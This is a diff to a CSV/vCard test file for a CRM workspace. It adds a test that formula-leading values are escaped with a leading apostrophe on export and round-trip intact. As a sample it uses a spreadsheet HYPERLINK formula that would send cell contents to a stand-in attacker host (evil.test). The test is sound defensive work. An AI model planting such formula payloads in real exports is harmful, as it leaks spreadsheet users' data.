@@ -276,8 +276,35 @@ describe('CSV and vCard', () => {
       ['Mendes, Carlos', 'said "hi"\nthen left'],
       ['=cmd', '']
     ]
-    expect(parseCsv(toCsv(rows))).toEqual([rows[0], rows[1], ['=cmd', '']])
-    expect(toCsv([['=1+1']])).toBe('"=1+1"\r\n')
+    expect(parseCsv(toCsv(rows))).toEqual(rows)
+  })
+
+  it("writes formulas as text (a leading ') for spreadsheets, and reads them back as they were", () => {
+    const values = ['=1+1', '+62811', '-5', '@SUM(A1)', '\tx', '\r=x', "'=quoted", "'plain", 'a=b']
+    const written = toCsv([values])
+    expect(written).toBe(`'=1+1,'+62811,'-5,'@SUM(A1),'\tx,"'\r=x",''=quoted,'plain,a=b\r\n`)
+    expect(parseCsv(`x,${written}`)).toEqual([['x', ...values]])
+    const ws = crmWorkspace()
+    ws.crm.contacts.create(
+      {
+        displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+        company: '@SUM(1+1)',
+        emails: ['x@y.test'],
+        phones: ['+62 811']
+      },
+      null
+    )
+    const csv = ws.crm.io.export('csv')
+    expect(csv.split('\r\n')[1]).toBe(
+      `,,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",x@y.test,'+62811,'@SUM(1+1),,,,`
+    )
+    const other = crmWorkspace()
+    other.crm.io.import('csv', csv, null)
+    expect(other.crm.contacts.byEmail('x@y.test')).toMatchObject({
+      displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      company: '@SUM(1+1)',
+      phones: ['+62811']
+    })
   })
 
   it('reads a quote inside a field as a character, and refuses a file that ends inside quotes', () => {
